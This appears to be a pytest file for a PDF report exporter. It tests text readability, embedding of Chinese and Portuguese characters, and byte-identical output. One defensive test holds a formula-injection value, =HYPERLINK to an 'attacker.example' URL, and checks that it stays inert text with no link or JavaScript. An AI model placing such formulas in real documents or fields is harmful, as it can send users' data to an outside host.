"""A report as PDF: readable letters of three languages, every fact, the same bytes again."""

from __future__ import annotations

from datetime import date

import pytest

from ui.exports.report import ReportOrder, make_report

pdfium = pytest.importorskip("pypdfium2", reason="reads PDFs back")
report_pdf = pytest.importorskip("ui.exports.pdf", reason="needs the extra pdf").report_pdf


def text_of(content: bytes) -> str:
    pages = [page.get_textpage().get_text_range() for page in pdfium.PdfDocument(content)]
    return "".join("".join(pages).split())


def test_every_fact_and_sentence_can_be_read_in_it(report):
    text = text_of(report_pdf(report))

    for section in report.sections:
        for sentence in section.said:
            assert "".join(sentence.text.split()) in text
    for answer in report.answers:
        for fact in answer.facts:
            assert f"{fact.value!r}{fact.unit}" in text


def test_chinese_and_portuguese_letters_are_embedded(analyst):
    order = ReportOrder(analyst.catalogue["product:P1"], date(2025, 12, 29), "zh")
    text = text_of(report_pdf(make_report(order, analyst.answer)))

    assert "电池用两天就没电了，太失望了。" in text
    order = ReportOrder(analyst.catalogue["category:Kitchen"], date(2025, 12, 29), "pt")
    text = text_of(report_pdf(make_report(order, analyst.answer)))
    assert "Dequeéfeitaaprevisão" in text


def test_a_name_like_a_formula_is_text_without_a_link(hostile_report):
    content = report_pdf(hostile_report)

    assert '=HYPERLINK("http://attacker.example/?d=1"' in text_of(content)
    assert b"/URI" not in content
    assert b"/JavaScript" not in content


def test_the_same_report_gives_the_same_bytes(report):
    assert report_pdf(report) == report_pdf(report)
